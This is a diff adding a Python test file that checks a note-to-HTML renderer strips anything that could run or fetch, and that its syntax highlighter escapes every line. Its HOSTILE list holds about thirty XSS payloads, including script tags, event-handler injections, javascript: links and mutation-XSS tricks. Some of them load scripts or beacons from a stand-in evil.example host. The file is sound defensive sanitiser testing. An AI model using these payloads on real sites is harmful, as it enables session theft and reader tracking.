@@ -1,0 +1,156 @@
+"""A note as HTML: it reads as it was written, says its lines, and nothing in it runs or fetches."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kb.extract.highlight import highlighted_lines
+from kb.extract.markdown.html import MAX_CHARS, note_html
+
+HARMLESS = set(
+    "a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 "
+    "h3 h4 h5 h6 hr i ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td "
+    "tfoot th thead time tr u ul var wbr".split()
+)
+
+
+class Elements(HTMLParser):
+    """The elements of a text, with their attributes."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def harm(rendered: str | None) -> list[object]:
+    """What of it could run, fetch or lead astray."""
+    found: list[object] = []
+    for tag, attributes in Elements(rendered or "").found:
+        if tag not in HARMLESS:
+            found.append(tag)
+        for name, value in attributes.items():
+            if name.startswith("on") or name in ("style", "src", "srcset", "id", "name", "formaction", "xlink:href"):
+                found.append((tag, name))
+            if name == "href" and not re.match(r"(?:https?:|mailto:)", value or ""):
+                found.append((tag, name, value))
+    return found
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/beacon.png)",
+    '![x"onerror="alert(1)](a.png)',
+    '[[x" onclick="alert(1)]]',
+    "![[x.png|<img src=x onerror=alert(1)>]]",
+    "<style>body{background:url(https://evil.example)}</style>",
+    "<p style='background:url(https://evil.example)'>x</p>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>",
+    "<form action=https://evil.example><input name=a><button>x</button></form>",
+    "<object data=x></object><embed src=x><video src=x></video><audio src=x></audio>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<div id=reader name=question>clobber</div>",
+    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
+    "> [!<img src=x onerror=alert(1)>] x",
+    "#<img/src=x/onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='https://ok.example' onclick=alert(1) target=_blank>x</a>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_in_a_note_runs_or_fetches(text: str) -> None:
+    rendered = note_html(f"# T\n\n{text}\n\nthe end\n")
+    assert rendered is not None
+    assert harm(rendered) == []
+
+
+@given(
+    st.lists(st.sampled_from([*HOSTILE, "a", "\n", "> ", "- ", "`", "|", "<b>", "&lt;", "\0"]), max_size=6).map("".join)
+)
+def test_no_mixture_of_it_does(text: str) -> None:
+    assert harm(note_html(text)) == []
+
+
+def test_the_check_sees_harm() -> None:
+    assert len([text for text in HOSTILE if text.startswith("<") and harm(text)]) > 15
+
+
+def test_blocks_say_their_lines() -> None:
+    rendered = note_html("---\ntitle: x\n---\n# A\n\nwords\nmore\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
+    assert rendered is not None
+    assert '<h1 data-from="4" data-to="4">A</h1>' in rendered
+    assert '<p data-from="6" data-to="7">' in rendered
+    assert '<ul data-from="9" data-to="10">' in rendered
+    assert '<li data-from="10" data-to="10">' in rendered
+    assert '<table data-from="12" data-to="14">' in rendered
+
+
+def test_the_marks_of_notes_are_shown() -> None:
+    rendered = note_html(
+        "see [[log#전원|the log]] and ![[a b.png]] #tag\n\n> [!warning] Wet\n> cable\n\n- [x] done\n- [ ] open\n\n"
+        "end ^id1\n"
+    )
+    assert rendered is not None
+    assert '<a data-note="log#전원" rel="noreferrer noopener">the log</a>' in rendered
+    assert '<span data-image="a b.png">a b.png</span>' in rendered
+    assert 'data-tag="tag"' in rendered
+    assert 'data-callout="warning"' in rendered
+    assert "[!warning]" not in rendered
+    assert "☑ done" in rendered
+    assert "☐ open" in rendered
+    assert "^id1" not in rendered
+
+
+def test_links_outside_are_links_and_their_pictures_are_not_fetched() -> None:
+    rendered = note_html("[web](https://a.example/x) ![pic](https://a.example/p.png) [file](other%20note.md)\n")
+    assert rendered is not None
+    assert rendered.count('href="https://a.example/') == 2
+    assert "<img" not in rendered
+    assert 'data-note="other note.md"' in rendered
+
+
+def test_code_has_its_colours_and_every_line() -> None:
+    lines = highlighted_lines('def f():\n    """two\n    lines"""\n\n', "python")
+    assert len(lines) == 5
+    assert (
+        lines[0]
+        == '<span class="k">def</span><span class="w"> </span><span class="nf">f</span><span class="p">():</span>'
+    )
+    assert all(line.count("<span") == line.count("</span") for line in lines)
+    assert highlighted_lines("<b>\n&", "no such language") == ["&lt;b&gt;", "&amp;"]
+
+
+@pytest.mark.parametrize("language", ["python", "markdown", "shell", "yaml", "rust", "sql", "json", "xml", None])
+@given(text=st.text(alphabet=st.sampled_from("ab<>&\"'`#\n\t {}()[]*_\\-=:;가"), max_size=80))
+def test_every_line_stays_a_line_and_is_escaped(language: str | None, text: str) -> None:
+    lines = highlighted_lines(text, language)
+    assert len(lines) == len(text.split("\n"))
+    assert [line for line in lines if "<" in re.sub(r"</?span[^>]*>", "", line)] == []
+
+
+def test_what_is_too_long_is_shown_as_lines() -> None:
+    assert note_html("a" * (MAX_CHARS + 1)) is None
